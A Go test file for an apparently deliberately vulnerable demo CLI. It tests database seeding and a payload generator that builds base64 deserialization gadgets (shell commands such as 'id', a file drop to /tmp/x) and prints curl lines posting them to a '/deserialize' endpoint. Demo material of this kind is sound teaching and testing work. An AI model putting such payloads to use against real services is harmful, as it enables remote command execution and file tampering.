package main

import (
	"bytes"
	"context"
	"encoding/base64"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"vulnDemo/internal/gadget"
	"vulnDemo/repository"
)

func run(t *testing.T, args ...string) (string, error) {
	t.Helper()
	var out bytes.Buffer
	cmd := newRootCmd()
	cmd.SetOut(&out)
	cmd.SetErr(&bytes.Buffer{})
	cmd.SetArgs(args)
	err := cmd.Execute()
	return out.String(), err
}

func TestInitDBAndSeed(t *testing.T) {
	path := filepath.Join(t.TempDir(), "users.db")

	out, err := run(t, "--db", path, "init-db")
	require.NoError(t, err)
	assert.Contains(t, out, "schema ready")

	out, err = run(t, "--db", path, "seed", "--username", "bob", "--password", "builder")
	require.NoError(t, err)
	assert.Contains(t, out, "(bob)")

	users := repository.NewUserRepository(path, nil)
	u, err := users.FindByCredentials(context.Background(), "bob", "builder")
	require.NoError(t, err)
	require.NotNil(t, u)

	// --reset drops existing rows
	_, err = run(t, "--db", path, "init-db", "--reset")
	require.NoError(t, err)
	list, err := users.List(context.Background(), 10, 0)
	require.NoError(t, err)
	assert.Empty(t, list)
}

func TestPayload_Note(t *testing.T) {
	out, err := run(t, "payload", "note", "hello", "world", "--url", "http://demo:5000/")
	require.NoError(t, err)

	lines := strings.Split(strings.TrimSpace(out), "\n")
	require.Len(t, lines, 2)

	v, err := gadget.DecodeBase64(lines[0])
	require.NoError(t, err)
	assert.Equal(t, gadget.Note{Text: "hello world"}, v)
	assert.True(t, strings.HasPrefix(lines[1], "curl -s -X POST --data-binary "))
	assert.True(t, strings.HasSuffix(lines[1], "http://demo:5000/deserialize"))
}

func TestPayload_ShellFlag(t *testing.T) {
	out, err := run(t, "payload", "shell", "id", "--shell", "/bin/sh")
	require.NoError(t, err)

	blob := strings.SplitN(out, "\n", 2)[0]
	b, err := base64.StdEncoding.DecodeString(blob)
	require.NoError(t, err)
	// decoding would run the command; check the encoded form instead
	assert.Contains(t, string(b), "/bin/sh")
}

func TestBuildPayload(t *testing.T) {
	v, err := buildPayload("shell", []string{"id", "-u"}, "")
	require.NoError(t, err)
	assert.Equal(t, gadget.ShellCommand{Command: "id -u"}, v)

	v, err = buildPayload("shell", []string{"id"}, "/bin/bash")
	require.NoError(t, err)
	assert.Equal(t, gadget.ShellCommand{Shell: "/bin/bash", Command: "id"}, v)

	v, err = buildPayload("filedrop", []string{"/tmp/x", "a", "b"}, "")
	require.NoError(t, err)
	assert.Equal(t, gadget.FileDrop{Path: "/tmp/x", Content: []byte("a b")}, v)

	_, err = buildPayload("filedrop", []string{"/tmp/x"}, "")
	assert.Error(t, err)
	_, err = buildPayload("pickle", []string{"x"}, "")
	assert.Error(t, err)
}

func TestCurlLine(t *testing.T) {
	assert.Equal(t,
		"curl -s -X POST --data-binary a+b/c== http://h/deserialize",
		curlLine("http://h/deserialize", "a+b/c=="))
	assert.Equal(t,
		"curl -s -X POST --data-binary abc 'http://h/my app/deserialize'",
		curlLine("http://h/my app/deserialize", "abc"))
}
